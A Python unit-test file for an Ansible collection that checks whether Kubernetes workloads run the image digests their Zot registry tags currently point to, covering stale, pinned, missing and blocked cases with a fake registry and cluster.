# Copyright (c) 2026, killinit.zot contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import copy
import json
import time
import tracemalloc
import typing as t

import pytest

from ansible_collections.killinit.zot.plugins.module_utils._cluster.errors import ClusterError
from ansible_collections.killinit.zot.plugins.module_utils._cluster.objects import CONTAINERS, VOLUMES
from ansible_collections.killinit.zot.plugins.module_utils._oci.image import Image, Manifest
from ansible_collections.killinit.zot.plugins.module_utils._oci.reference import Reference
from ansible_collections.killinit.zot.plugins.module_utils._registry.errors import ZotError
from ansible_collections.killinit.zot.plugins.module_utils._workload_info import run
from ansible_collections.killinit.zot.plugins.module_utils._workload_info.rollouts import RESTARTED_AT
from ansible_collections.killinit.zot.tests.unit.fake_cluster import FakeCluster
from ansible_collections.killinit.zot.tests.unit.workload_objects import (
    AMD,
    AMD_CONFIG,
    APP,
    ARM,
    ARM_CONFIG,
    CLUSTER,
    DATA,
    GONE,
    INDEX,
    NAMESPACE,
    NEW_INDEX,
    OLD_INDEX,
    OTHER,
    REGISTRY,
    STAMP,
    Dict,
    container,
    cronjob,
    digest,
    gone,
    image,
    image_of,
    pod,
    rolled_out,
    single,
    volume,
    with_templates,
    workload,
)

NAMESPACE_OBJECT: Dict = {"kind": "Namespace", "metadata": {"name": NAMESPACE}}
DEFAULTS: Dict = {
    "registry": REGISTRY,
    "namespace": NAMESPACE,
    "workloads": [],
    "label_selectors": [],
    "images": [],
    "repositories": [],
    "set_image": "false",
    "pin": False,
    "rollback": None,
    "assume_pushed": [],
    "registry_aliases": [],
    "allow_empty": True,
    "wait": False,
    "wait_timeout": 120,
    "wait_sleep": 5,
}


class Registry:
    """A Registry whose images are given as results of zot_image_info.

    *requested* are the references whose digest was read, in any order, and *whole* those whose image was read.
    """

    name = REGISTRY

    def __init__(self, images: t.Iterable[Dict]) -> None:
        self.images = {each["reference"]: each for each in images}
        self.requested: list[str] = []
        self.whole: list[str] = []

    def expect(self, reads: int) -> None:
        pass

    def http(self) -> t.NoReturn:
        raise ZotError("tool_missing", "without requests")

    def digest(self, reference: Reference) -> str | None:
        members = {each["digest"]: each["manifest"] for image in self.images.values() for each in image["manifests"]}
        if reference.digest in members:
            return reference.digest if members[reference.digest] else None
        self.requested.append(str(reference))
        found: str | None = self.images.get(str(reference), {}).get("digest")
        return found

    def manifest(self, reference: Reference) -> Manifest | None:
        found = (each for each in self.images.values() if each["digest"] == reference.digest)
        return image_of(reference, next(found, None)).manifest

    def with_children(self, reference: Reference) -> Image:
        self.whole.append(str(reference))
        return image_of(reference, self.images.get(str(reference)))


@pytest.fixture(autouse=True)
def _known_time(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(run, "now_text", lambda: STAMP)


def info(
    own: t.Sequence[Dict],
    pods: t.Sequence[Dict] = (),
    images: t.Sequence[Dict] | Registry | None = None,
    *,
    released: t.Sequence[str] = (),
    cluster: FakeCluster | None = None,
    **options: t.Any,
) -> Dict:
    """The result of the module, with the defaults of a task, except allow_empty. *released* is its option images."""
    registry = images if isinstance(images, Registry) else Registry([image()] if images is None else images)
    client = cluster or FakeCluster(NAMESPACE_OBJECT, *own, *with_templates(own, pods))
    params = {**DEFAULTS, "images": released, **options}
    return run.run(client, registry, run.WorkloadQuery.of(params))  # type: ignore[arg-type]


def plan(*arguments: t.Any, **options: t.Any) -> list[Dict]:
    """The verdicts on workloads."""
    found: list[Dict] = info(*arguments, **options)["workloads"]
    return found


def one(own: Dict, *pods: Dict, images: t.Sequence[Dict] | Registry | None = None, **options: t.Any) -> Dict:
    """The verdict on a workload alone."""
    (entry,) = plan([own], pods, images, **options)
    return entry


def verdicts(entry: Dict) -> list[str]:
    return [use["verdict"] for use in entry["images"]]


def action(entry: Dict) -> str:
    """What a verdict leads to: C(restart), C(pin) (which also sets images), C(blocked), or C(none)."""
    if entry["patch"]:
        template = entry["patch"]["spec"]["template"]
        assert entry["status"] in ("stale", "failed")
        return "pin" if "spec" in template else "restart"
    return "blocked" if entry["problem"] else "none"


class TestRequestedReferences:
    """Which references are read."""

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            pytest.param(f"{APP}:latest", [f"{APP}:latest"], id="tag"),
            pytest.param(APP, [f"{APP}:latest"], id="no tag"),
            pytest.param(f"{APP}@{OTHER}", [f"{APP}@{OTHER}"], id="digest"),
            pytest.param(f"{APP}:1@{OTHER}", [f"{APP}:1", f"{APP}@{OTHER}"], id="tag and digest"),
            pytest.param("ghcr.io/openclaw/openclaw:latest", [], id="another registry"),
            pytest.param(f"{REGISTRY}:443/openclaw/openclaw:latest", [f"{APP}:latest"], id="the default port"),
            pytest.param(f"{REGISTRY}:5000/openclaw/openclaw:latest", [], id="another port"),
            pytest.param("openclaw:latest", [], id="Docker Hub"),
            pytest.param(f"{REGISTRY}/openclaw/UPPER:1", [], id="malformed"),
            pytest.param("", [], id="none yet"),
        ],
    )
    def test_of_one_image(self, text: str, expected: list[str]) -> None:
        registry = Registry([image(), image(f"{APP}:1")])
        found = plan([workload(container(text))], images=registry)
        assert (sorted(registry.requested), bool(found)) == (expected, bool(expected))

    def test_each_once(self) -> None:
        registry = Registry(CLUSTER["images"])
        info(CLUSTER["fresh"]["workloads"], images=registry)
        assert sorted(registry.requested) == sorted(
            [f"{REGISTRY}/openclaw/tool:latest", f"{APP}:latest", f"{DATA}:latest"]
        )

    def test_no_configuration_where_the_digests_are_the_same(self) -> None:
        """Each configuration costs a request."""
        registry = Registry([image()])
        found = info([workload()], [pod(f"{APP}@{INDEX}")], registry, released=[f"{APP}:latest"])
        assert (found["ok"], registry.requested, registry.whole) == (True, [f"{APP}:latest"], [])

    def test_only_of_the_workloads_that_count(self) -> None:
        registry = Registry(CLUSTER["images"])
        info(CLUSTER["fresh"]["workloads"], images=registry, workloads=["daemonset/daemon"])
        assert registry.requested == [f"{APP}:latest"]


class TestCaptured:
    """A Deployment with a sidecar and an image volume, a StatefulSet and a DaemonSet, restarted for new images."""

    def test_a_second_before_their_tags_moved_they_are_current(self) -> None:
        """Except for the volume, whose digest this Kubernetes does not report. The sidecar's image is the app's
        amd64 under another name, a manifest and no index; the runtime names it by the app's index."""
        state = CLUSTER["fresh"]
        found = plan(state["workloads"], state["pods"], CLUSTER["images"])
        assert {entry["name"]: verdicts(entry) for entry in found} == {
            "deployment/openclaw": ["current", "current", "mismatched"],
            "statefulset/stateful": ["current"],
            "daemonset/daemon": ["current"],
        }
        assert found[0]["images"][0]["running"] == [f"{APP}@{OLD_INDEX}"]
        assert "Kubernetes reports no digest of the volume" in found[0]["reason"]

    def test_then_all_are_stale(self) -> None:
        state = CLUSTER["fresh"]
        old = {**CLUSTER["images"][0], "reference": f"{APP}@{OLD_INDEX}"}
        found = plan(state["workloads"], state["pods"], [*CLUSTER["moved"], old])
        assert {entry["name"]: (action(entry), verdicts(entry)) for entry in found} == {
            "deployment/openclaw": ("restart", ["current", "mismatched", "mismatched"]),
            "statefulset/stateful": ("restart", ["mismatched"]),
            "daemonset/daemon": ("restart", ["mismatched"]),
        }
        assert found[2]["reason"] == f"container app runs {OLD_INDEX[:19]}, but {APP}:latest means {NEW_INDEX[:19]} now"

    def test_in_the_end_all_are_current(self) -> None:
        state = CLUSTER["done"]
        old = {**CLUSTER["images"][0], "reference": f"{APP}@{OLD_INDEX}"}
        found = plan(state["workloads"], state["pods"], [*CLUSTER["moved"], old])
        assert {entry["name"]: (action(entry), verdicts(entry)) for entry in found} == {
            "deployment/openclaw": ("none", ["current"] * 3),
            "statefulset/stateful": ("none", ["current"]),
            "daemonset/daemon": ("none", ["current"]),
        }

    def test_a_name_that_the_registry_has_lost(self) -> None:
        """The sidecar's tag has not moved; its runtime names it by the app's old index, which Zot has forgotten."""
        state = copy.deepcopy(CLUSTER["done"])
        (before,) = plan(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
        assert (action(before), verdicts(before)) == ("restart", ["mismatched", "current", "current"])
        for each in state["pods"]:
            each["metadata"]["annotations"] = before["patch"]["spec"]["template"]["metadata"]["annotations"]
        (after,) = plan(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
        assert (action(after), verdicts(after)) == ("none", ["unknown", "current", "current"])
        found = info(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
        text, of_volume = found["unverified"]
        assert (found["ok"], found["problems"]) == (True, [])
        assert (found["workloads"][0]["status"], "image volume workspace" in of_volume) == ("unknown", True)
        assert text == (
            f"deployment/openclaw: init container sidecar was started when {REGISTRY}/openclaw/tool:latest meant"
            f" {after['images'][0]['expected'][:19]}, as it does now; it reports {OLD_INDEX[:19]}, which the registry"
            " does not have, so the digests do not show which image runs"
        )


class TestSame:
    """What a pod reports, against what the tag means."""

    @pytest.mark.parametrize(
        ("running", "verdict"),
        [
            *((f"{APP}@{own}", "current") for own in (INDEX, AMD, ARM)),
            *((f"docker-pullable://{APP}@{INDEX}", "current"), (f"docker://{ARM_CONFIG}", "current")),
            *((AMD_CONFIG, "current"), (INDEX, "current"), (f"mirror.example/app@{INDEX}", "current")),
            *((f"{prefix}{OTHER}", "mismatched") for prefix in (f"{APP}@", f"docker-pullable://{APP}@", "")),
            *((text, "not_running") for text in ("", f"{APP}:latest")),
        ],
    )
    def test_forms(self, running: str, verdict: str) -> None:
        assert verdicts(one(workload(), pod(running))) == [verdict]

    @pytest.mark.parametrize(
        ("other", "verdict"),
        [
            pytest.param(image(OTHER, OTHER, amd64=AMD_CONFIG, arm64=ARM_CONFIG), "current", id="both platforms"),
            pytest.param(
                image(OTHER, OTHER, amd64=AMD_CONFIG), "current", id="one platform, and the other has no second"
            ),
            pytest.param(image(OTHER, OTHER, amd64=AMD_CONFIG, riscv64=digest(1)), "current", id="one platform of two"),
            pytest.param(single(OTHER, OTHER, AMD_CONFIG), "current", id="a single manifest"),
            pytest.param(image(OTHER, OTHER, amd64=AMD_CONFIG, arm64=digest(1)), "mismatched", id="one of two differs"),
            pytest.param(image(OTHER, OTHER, amd64=digest(1)), "mismatched", id="the only one differs"),
            pytest.param(image(OTHER, OTHER, riscv64=AMD_CONFIG), "mismatched", id="no platform is shared"),
            pytest.param(single(OTHER, OTHER, AMD_CONFIG, ()), "mismatched", id="no platform is known"),
            pytest.param(image(OTHER, OTHER, amd64=None), "mismatched", id="the registry has lost its manifest"),
            pytest.param(gone(f"{APP}@{OTHER}"), "mismatched", id="the registry has lost it"),
        ],
    )
    def test_another_name_of_the_same_configuration(self, other: Dict, verdict: str) -> None:
        """A runtime keeps images by their configuration, and reports any name that it pulled it under."""
        entry = one(workload(), pod(f"{APP}@{OTHER}"), images=[image(), {**other, "reference": f"{APP}@{OTHER}"}])
        assert verdicts(entry) == [verdict]

    def test_pods_that_run_an_index_that_lost_a_member(self) -> None:
        """The next pod on a node of that platform cannot pull."""
        broken, lost = image(amd64=None, arm64=ARM_CONFIG), "is not whole: the registry has lost its member linux/amd64"
        pinned = {**broken, "reference": f"{APP}@{INDEX}"}
        for name, found in ((f"{APP}:latest", broken), (f"{APP}@{INDEX}", pinned)):
            entry = one(workload(container(name)), pod(f"{APP}@{INDEX}"), images=[found])
            assert (entry["status"], verdicts(entry), action(entry)) == ("failed", ["missing"], "blocked")
            assert lost in entry["problem"]
        (problem,) = info([], (), [broken], released=[f"{APP}:latest"])["problems"]
        assert lost in problem

    @pytest.mark.parametrize(("amd64", "expected"), [(AMD_CONFIG, "restart"), (None, "blocked")], ids=["whole", "lost"])
    def test_an_index_that_lost_a_member(self, amd64: str | None, expected: str) -> None:
        """A restart would leave pods that cannot pull."""
        old = {**image(index=OLD_INDEX, amd64=digest(1)), "reference": f"{APP}@{OLD_INDEX}"}
        images = [image(amd64=amd64, arm64=ARM_CONFIG), old]
        entry = one(workload(), pod(f"{APP}@{OLD_INDEX}"), images=images)
        assert action(entry) == expected
        if amd64 is None:
            assert (verdicts(entry), entry["status"]) == (["missing"], "failed")
            assert "is not whole: the registry has lost its member linux/amd64" in entry["problem"]

    def test_an_attestation_is_no_platform(self) -> None:
        attested = image()
        unknown = {"platform": None, "digest": digest(9), "manifest": {"config": {"digest": digest(8)}}}
        attested["manifests"].append(unknown)
        assert verdicts(one(workload(), pod(digest(8)), images=[attested])) == ["mismatched"]

    def test_an_index_in_an_index_has_no_configuration(self) -> None:
        nested = image()
        nested["manifests"][0]["manifest"] = {"manifests": []}
        assert verdicts(one(workload(), pod(ARM_CONFIG), images=[nested])) == ["current"]

    def test_what_pods_run_is_listed_once(self) -> None:
        """With what of it is old, by which the role asks the registry again."""
        running = [f"{APP}@{OTHER}", f"docker-pullable://{APP}@{OTHER}", f"{APP}@{INDEX}", f"{APP}@{INDEX}", digest(7)]
        registry = Registry([image()])
        entry = one(workload(), *(pod(text) for text in running), images=registry)
        (use,) = entry["images"]
        assert use["running"] == sorted({f"{APP}@{OTHER}", f"{APP}@{INDEX}", digest(7)})
        assert (registry.requested, sorted(registry.whole)) == ([f"{APP}:latest"], [f"{APP}:latest", f"{APP}@{OTHER}"])
        assert (entry["pods"], use["expected"]) == (5, INDEX)


class TestPods:
    """Which pods count."""

    STALE = f"{APP}@{OTHER}"

    @pytest.mark.parametrize(
        ("other", "counted"),
        [
            pytest.param(pod(STALE), True, id="running"),
            pytest.param(pod(STALE, phase="Pending"), True, id="pending"),
            pytest.param(pod(STALE, ending=True), False, id="ending"),
            pytest.param(pod(STALE, phase="Succeeded"), False, id="succeeded"),
            pytest.param(pod(STALE, phase="Failed"), False, id="evicted"),
            pytest.param(pod(STALE, of="other"), False, id="of another Deployment"),
            pytest.param(pod(STALE, of="app", kind="StatefulSet"), False, id="of a StatefulSet of the same name"),
            pytest.param({**pod(STALE), "metadata": {"name": "p"}}, False, id="nobody's"),
        ],
    )
    def test_which_count(self, other: Dict, counted: bool) -> None:
        entry = one(workload(), pod(f"{APP}@{INDEX}"), other)
        assert (entry["pods"], action(entry)) == ((2, "restart") if counted else (1, "none"))

    @pytest.mark.parametrize(
        "status",
        [
            pytest.param({"phase": "Pending"}, id="not scheduled"),
            pytest.param(None, id="just created"),
            pytest.param({"containerStatuses": None, "initContainerStatuses": None}, id="null"),
            pytest.param({"containerStatuses": [{"name": "app"}]}, id="no imageID"),
        ],
    )
    def test_a_pod_that_reports_nothing_yet(self, status: Dict | None) -> None:
        """Its volume holds what it was started with; its container will pull what is new."""
        annotation = {VOLUMES: json.dumps({"workspace": INDEX})}
        started = {**pod(annotations=annotation), "status": status}
        entry = one(workload(volumes=[volume()]), started, images=[image(), image(f"{DATA}:latest")])
        assert (entry["pods"], verdicts(entry), action(entry)) == (1, ["not_running", "current"], "none")

    @pytest.mark.parametrize("assumed", [[], [f"{APP}:latest"]], ids=["", "dry run"])
    def test_no_pod(self, assumed: list[str]) -> None:
        images = [image(), image(f"{DATA}:latest")]
        found = info([workload(volumes=[volume()], replicas=0)], images=images, assume_pushed=assumed)
        (entry,) = found["workloads"]
        assert (entry["pods"], verdicts(entry), action(entry)) == (0, ["not_running"] * 2, "none")
        assert found["ok"] is True
        assert any("image volume workspace: the workload has no replicas" in text for text in found["unverified"])

    @pytest.mark.parametrize("stale", ["app", "app1", "setup", "sidecar"])
    def test_every_container_counts(self, stale: str) -> None:
        """Each by its name: also an init container, and one that keeps running as a sidecar."""
        names = {"app": INDEX, "app1": INDEX, "setup": INDEX, "sidecar": INDEX, stale: OTHER}
        texts = {name: f"{APP}@{value}" for name, value in names.items()}
        own = workload(
            container(name="app1"),
            container(name="app"),
            init=[container(name="setup"), {**container(name="sidecar"), "restartPolicy": "Always"}],
        )
        running = pod(texts["app"], texts["app1"], init={"sidecar": texts["sidecar"], "setup": texts["setup"]})
        entry = one(own, running)
        assert [use["name"] for use in entry["images"] if use["verdict"] == "mismatched"] == [stale]
        kind = "container" if stale.startswith("app") else "init container"
        assert entry["reason"].startswith(f"{kind} {stale} runs ")

    def test_an_init_container_is_not_mistaken_for_a_container(self) -> None:
        """A name may be once among each."""
        entry = one(workload(container(name="setup")), pod(init={"setup": f"{APP}@{OTHER}"}))
        assert verdicts(entry) == ["not_running"]


def mount(reference: str | None, name: str = "workspace") -> Dict:
    status = {} if reference is None else {"volumeStatus": {"image": {"imageRef": reference}}}
    return {"name": name, "mountPath": "/workspace", **status}


def annotated(text: str) -> Dict:
    return {"annotations": {VOLUMES: text}}


FOREIGN = container("ghcr.io/openclaw/openclaw:latest")


class TestVolumes:
    """What an image volume holds: the digest that Kubernetes reports, or the digest in the annotation."""

    KNOWN = json.dumps({"workspace": INDEX})

    @pytest.mark.parametrize(
        ("changes", "verdict"),
        [
            pytest.param({"mounts": [mount(f"{DATA}@{INDEX}")]}, "current", id="reported"),
            pytest.param({"mounts": [mount(f"{DATA}@{OTHER}")]}, "mismatched", id="reported old"),
            pytest.param({"mounts": [mount(None, "other"), mount(AMD_CONFIG)]}, "current", id="reported configuration"),
            pytest.param({"mounts": [mount(f"{DATA}@{GONE}")], **annotated(KNOWN)}, "unknown", id="a lost one"),
            pytest.param(
                {"mounts": [mount(f"{DATA}@{OTHER}")], **annotated(KNOWN)}, "mismatched", id="reported counts"
            ),
            pytest.param(annotated(KNOWN), "current", id="annotation"),
            pytest.param(annotated(json.dumps({"workspace": OTHER})), "mismatched", id="annotation of an old image"),
            pytest.param({"mounts": [mount("")], **annotated(KNOWN)}, "current", id="an empty report"),
            pytest.param({"mounts": [{"name": "workspace"}], **annotated(KNOWN)}, "current", id="no report"),
            pytest.param({"mounts": [mount(f"{DATA}@{INDEX}", "other")]}, "mismatched", id="another volume reported"),
        ],
    )
    def test_what_it_holds(self, changes: Dict, verdict: str) -> None:
        """The annotation of one pod does not count for another."""
        own, holding = workload(FOREIGN, volumes=[volume()]), pod(f"{APP}@{INDEX}", **changes)
        images = [image(f"{DATA}:latest"), single(f"{DATA}@{OTHER}", OTHER, digest(1))]
        assert verdicts(one(own, holding, images=images)) == [verdict]
        assert verdicts(one(own, holding, pod(f"{APP}@{INDEX}"), images=images)) == ["mismatched"]

    @pytest.mark.parametrize(
        "text",
        [
            *("", "sha256:", "null", "[]", '"workspace"', '{"workspace": null}', '{"workspace": 5}'),
            *('{"workspace": "sha256:12"}', json.dumps({"workspace": f"x{INDEX}"}), json.dumps({"other": INDEX})),
        ],
    )
    def test_an_invalid_annotation_is_ignored(self, text: str) -> None:
        own = workload(FOREIGN, volumes=[volume()])
        entry = one(own, pod(f"{APP}@{INDEX}", **annotated(text)), images=[image(f"{DATA}:latest")])
        assert action(entry) == "restart"
        assert entry["reason"] == (
            "image volume workspace: Kubernetes reports no digest of the volume,"
            " and no annotation zot.killinit.cc/image-volumes records it"
        )

    def test_an_init_container_reports_it_too(self) -> None:
        """The first to start, and for a while the only one."""
        waiting = pod(init={"setup": f"{APP}@{INDEX}"})
        waiting["status"]["initContainerStatuses"][0]["volumeMounts"] = [mount(f"{DATA}@{OTHER}")]
        entry = one(workload(FOREIGN, volumes=[volume()]), waiting, images=[image(f"{DATA}:latest")])
        assert entry["images"][0]["running"] == [f"{DATA}@{OTHER}"]

    def test_a_volume_alone_restarts_its_workload(self) -> None:
        own = workload(volumes=[volume()])
        running = pod(f"{APP}@{INDEX}", **annotated(json.dumps({"workspace": OTHER})))
        entry = one(own, running, images=[image(), image(f"{DATA}:latest")])
        assert (verdicts(entry), action(entry)) == (["current", "mismatched"], "restart")
        assert entry["reason"].startswith("image volume workspace runs ")


class TestUnknown:
    """A digest that the registry has lost: one restart may help, a second one cannot."""

    NAME = f"{APP}@{GONE}"
    KNOWN: t.ClassVar[Dict] = {"annotations": {CONTAINERS: json.dumps({"app": INDEX})}}

    @pytest.mark.parametrize(
        ("own", "pods", "verdict"),
        [
            pytest.param(container(), [pod(NAME)], "mismatched", id="of no restart"),
            pytest.param(container(), [pod(NAME, **KNOWN)], "unknown", id="restarted"),
            pytest.param(container(), [pod(GONE, **KNOWN)], "unknown", id="a bare digest"),
            pytest.param(container(), [pod(f"ghcr.io/a/b@{GONE}", **KNOWN)], "unknown", id="of another registry"),
            pytest.param(container(), [pod(f"{APP}@{OTHER}", **KNOWN)], "mismatched", id="the registry knows better"),
            pytest.param(container(), [pod(NAME, **KNOWN), pod(NAME)], "mismatched", id="one was not restarted"),
            pytest.param(
                container(), [pod(NAME, **KNOWN), pod(f"{APP}@{OTHER}", **KNOWN)], "mismatched", id="one is surely old"
            ),
            pytest.param(container(), [pod(NAME, **KNOWN), pod(f"{APP}@{INDEX}")], "unknown", id="one is surely new"),
            pytest.param(
                container(f"{APP}:2"), [pod(NAME, **KNOWN)], "mismatched", id="its tag means something else now"
            ),
            pytest.param(
                container(policy="IfNotPresent"), [pod(NAME, **KNOWN)], "mismatched", id="taken from the node"
            ),
            pytest.param(
                container(f"{APP}:latest@{INDEX}", "IfNotPresent"), [pod(NAME, **KNOWN)], "unknown", id="set by a pin"
            ),
            pytest.param(
                container(f"{APP}:latest@{OTHER}", "Always"), [pod(NAME, **KNOWN)], "mismatched", id="set by hand since"
            ),
            pytest.param(container(f"{APP}:latest@{INDEX}"), [pod(NAME)], "mismatched", id="of no pin"),
        ],
    )
    def test_when_it_is_believed(self, own: Dict, pods: list[Dict], verdict: str) -> None:
        """Only if the node had to take what the tag means, and nothing in the registry says otherwise."""
        images = [image(), *(image(name, OTHER, amd64=digest(1)) for name in (f"{APP}:2", f"{APP}@{OTHER}"))]
        entry = one(workload(own), *pods, images=images, pin=True)
        assert verdicts(entry) == [verdict]
        assert (action(entry) == "none") is (verdict == "unknown")

    def test_an_unknown_digest_is_read(self) -> None:
        """By what is old, also where it is not stale, and an index whose manifests the registry has lost."""
        for known in ([], [image(self.NAME, GONE, amd64=None)]):
            registry = Registry([image(), *known])
            entry = one(workload(), pod(self.NAME, **self.KNOWN), images=registry)
            assert (verdicts(entry), sorted(registry.whole)) == (["unknown"], [f"{APP}:latest", self.NAME])

    def test_only_what_is_stale_is_called_so(self) -> None:
        pods = [pod(self.NAME, **self.KNOWN), pod(f"{APP}@{OTHER}")]
        images = [image(), single(f"{APP}@{OTHER}", OTHER, digest(1))]
        assert one(workload(), *pods, images=images)["reason"] == (
            f"container app runs {OTHER[:19]}, but {APP}:latest means {INDEX[:19]} now"
        )


class TestPinned:
    """Images with a digest, and what zot_rollout_pin makes of them."""

    @pytest.mark.parametrize(
        ("text", "pin", "verdict", "wanted"),
        [
            pytest.param(f"{APP}@{OTHER}", False, "pinned", OTHER, id="digest"),
            pytest.param(f"{APP}@{OTHER}", True, "pinned", OTHER, id="digest has no tag to follow"),
            pytest.param(f"{APP}:1@{OTHER}", False, "pinned", OTHER, id="tag and digest"),
            pytest.param(f"{APP}:1@{OTHER}", True, "mismatched", INDEX, id="tag and digest follows its tag"),
            pytest.param(f"{APP}:1@{INDEX}", True, "current", INDEX, id="the tag has not moved"),
            pytest.param(f"{APP}:gone@{OTHER}", False, "pinned", OTHER, id="a tag that is gone"),
        ],
    )
    @pytest.mark.parametrize("policy", ["Always", "IfNotPresent"])
    def test_verdict(self, text: str, pin: bool, verdict: str, wanted: str, policy: str) -> None:
        """A restart never cures a digest. Kubernetes fills in Always for app:latest@sha256:…."""
        images = [image(f"{APP}:1"), image(f"{APP}@{OTHER}", OTHER, amd64=digest(1)), image(f"{APP}@{INDEX}")]
        running = pod(f"{APP}@{text.partition('@')[2]}")
        entry = one(workload(container(text, policy)), running, images=images, pin=pin)
        assert [(use["verdict"], use["expected"]) for use in entry["images"]] == [(verdict, wanted)]
        assert action(entry) == ("pin" if verdict == "mismatched" else "none")

    @pytest.mark.parametrize("text", [f"{APP}@{OTHER}", f"{APP}:latest@{OTHER}"])
    @pytest.mark.parametrize("kind", ["Deployment", "CronJob"])
    def test_a_digest_that_the_registry_has_lost(self, text: str, kind: str) -> None:
        """The pods run on, but no new pod could pull it, also where the tag in front of the digest exists."""
        own = cronjob(container(text)) if kind == "CronJob" else workload(container(text))
        found = info([own], [] if kind == "CronJob" else [pod(f"{APP}@{OTHER}")])
        (entry,) = found["workloads"]
        assert (entry["status"], entry["patch"], verdicts(entry)) == ("failed", None, ["missing"])
        reason = f"container app: {text} is pinned to a digest that is not in the registry"
        assert found["problems"] == [
            f"{entry['name']}: {reason}, so that no new pod can pull it: set another image",
        ]

    def test_foretold_for_a_tag_that_is_published_only_then(self) -> None:
        """In check mode nobody knows the digest that it will mean, and one that it means now would be wrong."""
        own = workload(container(policy="IfNotPresent"))
        tag = f"{APP}:latest"
        for there in (gone(tag), image(tag)):
            entry = one(own, pod(f"{APP}@{OTHER}"), images=[there], assume_pushed=[tag], pin=True)
            assert (action(entry), entry["images"][0]["expected"]) == ("pin", None)
            assert entry["patch"]["spec"]["template"] == {
                "metadata": {"annotations": {RESTARTED_AT: STAMP}},
                "spec": {"containers": [{"name": "app", "image": tag}]},
            }


class TestOtherNames:
    """A host that is probably another name of the registry: without the note, its workloads are ignored in silence."""

    IMAGE = f"{APP}:latest".replace(REGISTRY, "localhost:5000")
    IMAGES = (image(), image(f"{APP}@{INDEX}"))

    @pytest.mark.parametrize(
        ("text", "running", "noted"),
        [
            pytest.param(IMAGE, INDEX, True, id="the same repository and digest"),
            pytest.param(IMAGE, OTHER, False, id="another digest"),
            pytest.param("localhost:5000/other:latest", INDEX, False, id="another repository"),
        ],
    )
    def test_the_same_image_under_another_host(self, text: str, running: str, noted: bool) -> None:
        own = [workload(), workload(container(text), name="other")]
        pods = [pod(f"{APP}@{INDEX}"), pod(f"localhost:5000/x@{running}", of="other")]
        found = info(own, pods, self.IMAGES)
        assert (found["ok"], "warnings" in found) == (True, noted)
        if noted:
            (warning,) = found["warnings"]
            assert warning == (
                f"deployment/other names {text}, and {REGISTRY} has the same image in the same repository: if"
                " localhost:5000 is another name of it, add this name to zot_registry_aliases"
            )
            assert "warnings" not in info(own, pods, self.IMAGES, registry_aliases=["localhost:5000"])

    def test_a_template_without_pods(self) -> None:
        own = [workload(), workload(container(self.IMAGE), name="other", replicas=0)]
        (warning,) = info(own, [pod(f"{APP}@{INDEX}")], self.IMAGES)["warnings"]
        assert f"deployment/other names {self.IMAGE}, and {REGISTRY} has the same tag" in warning

    def test_no_workload_names_the_registry(self) -> None:
        """The error names the other name."""
        pods = [pod(f"localhost:5000/x@{INDEX}")]
        with pytest.raises(ClusterError, match=r"none uses an image of .* localhost:5000 is another name of it"):
            info([workload(container(self.IMAGE))], pods, self.IMAGES, allow_empty=False)

    def test_a_foreign_image_is_not_read(self) -> None:
        """Only the name of its repository is compared."""
        registry = Registry([image()])
        own = [workload(), workload(container("ghcr.io/a/b:latest"), name="other")]
        info(own, [pod(f"{APP}@{INDEX}"), pod(f"ghcr.io/a/b@{INDEX}", of="other")], registry)
        assert registry.requested == [f"{APP}:latest"]


def test_a_selected_workload_without_images_of_the_registry() -> None:
    own = workload(container("ghcr.io/openclaw/openclaw:latest"))
    entry = one(own, pod(f"{APP}@{OTHER}"), workloads=["deployment/app"])
    assert (action(entry), entry["reason"]) == ("blocked", f"it uses no image of {REGISTRY}")
    assert plan([own], [pod(f"{APP}@{OTHER}")]) == []


class TestBlocked:
    """What is stale, and must be repaired by hand."""

    @pytest.mark.parametrize(
        ("own", "why"),
        [
            pytest.param(
                workload(paused=True),
                "; its rollouts are paused: kubectl --namespace=openclaw rollout resume deployment/app",
                id="paused",
            ),
            pytest.param(
                workload(
                    kind="StatefulSet", updateStrategy={"type": "RollingUpdate", "rollingUpdate": {"partition": 1}}
                ),
                "; its update strategy has a partition, below which no pod is updated: set it to 0",
                id="partition",
            ),
            pytest.param(
                workload(container(policy="IfNotPresent")),
                "; a restart cannot update container app, since its pull policy IfNotPresent takes the image of the"
                " node: set Always, or let zot_rollout_pin set the digest",
                id="IfNotPresent",
            ),
            pytest.param(
                workload(container(policy="Never")),
                "; container app is never pulled, since its pull policy is Never: set Always",
                id="Never",
            ),
        ],
    )
    @pytest.mark.parametrize("stale", [True, False], ids=["stale", "current"])
    def test_blocked(self, own: Dict, why: str, stale: bool) -> None:
        kind = {"Deployment": "ReplicaSet"}.get(own["kind"], own["kind"])
        entry = one(own, pod(f"{APP}@{OTHER if stale else INDEX}", kind=kind))
        assert (action(entry), entry["patch"]) == ("blocked" if stale else "none", None)
        if stale:
            assert entry["reason"] == (
                f"container app runs {OTHER[:19]}, but {APP}:latest means {INDEX[:19]} now" + why
            )

    @pytest.mark.parametrize("more", [None, {}, {"rollingUpdate": {"partition": 0}}])
    def test_strategies_that_update_every_pod(self, more: Dict | None) -> None:
        own = workload(kind="StatefulSet", updateStrategy=None if more is None else {"type": "RollingUpdate", **more})
        assert action(one(own, pod(f"{APP}@{OTHER}", kind="StatefulSet"))) == "restart"

    @pytest.mark.parametrize("cached", [OTHER, INDEX], ids=["stale", "current"])
    def test_one_cached_image_blocks_the_others_if_it_is_stale(self, cached: str) -> None:
        """Else a restart would leave the workload half new."""
        own = workload(container(), container(policy="IfNotPresent", name="app1"))
        entry = one(own, pod(f"{APP}@{OTHER}", f"{APP}@{cached}"))
        assert action(entry) == ("blocked" if cached == OTHER else "restart")
        assert ("cannot update container app1, since" in entry["reason"]) is (cached == OTHER)

    @pytest.mark.parametrize("pin", [True, False])
    def test_absent_images_are_published_first(self, pin: bool) -> None:
        """Whatever else is stale: a restart would end in ImagePullBackOff."""
        own = workload(container(), container(f"{APP}:1", name="app1"), container(f"{APP}:2", name="app2"))
        images = [image(), gone(f"{APP}:1"), gone(f"{APP}:2")]
        entry = one(own, pod(f"{APP}@{OTHER}", f"{APP}@{OTHER}"), images=images, pin=pin)
        assert verdicts(entry) == ["mismatched", "missing", "missing"]
